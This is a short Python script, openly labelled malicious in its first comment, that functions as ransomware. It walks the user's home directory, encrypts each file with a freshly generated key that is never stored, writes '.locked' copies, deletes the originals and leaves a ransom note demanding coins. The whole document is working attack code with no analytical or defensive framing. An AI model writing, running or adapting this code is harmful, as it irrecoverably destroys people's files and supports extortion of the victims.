# malicious: encrypts the user's files and leaves a note
import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
home = os.path.expanduser("~")
for root, _, files in os.walk(home):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, "rb").read()
        with open(p + ".locked", "wb") as out:
            out.write(f.encrypt(data))
        os.remove(p)
with open(os.path.join(home, "README_RECOVER.txt"), "w") as n:
    n.write("Your files are encrypted. Send coins to ...")
